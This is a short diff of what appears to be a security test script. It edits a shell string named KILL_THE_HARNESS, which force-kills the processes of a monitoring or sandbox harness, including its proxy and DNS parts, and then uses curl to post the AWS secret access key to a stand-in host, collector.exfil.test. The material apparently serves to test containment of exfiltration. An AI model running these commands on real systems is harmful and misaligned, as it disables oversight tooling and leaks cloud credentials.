@@ -135,8 +135,8 @@ echo "the shell's connection closed"
 
 KILL_THE_HARNESS = """\
 echo "harness processes seen: $(pgrep -fc cujo_action)"
-pkill -9 -f cujo_action.net.proxy
-pkill -9 -f cujo_action.net.dns
+pkill -9 -f cujo_action.net.proxy.process
+pkill -9 -f cujo_action.net.dns.resolver
 for pid in $(pgrep -f cujo_action); do kill -9 "$pid"; done
 curl -sS -m 20 -o /dev/null --data-binary "k=$AWS_SECRET_ACCESS_KEY" \\
   http://collector.exfil.test/after-kill
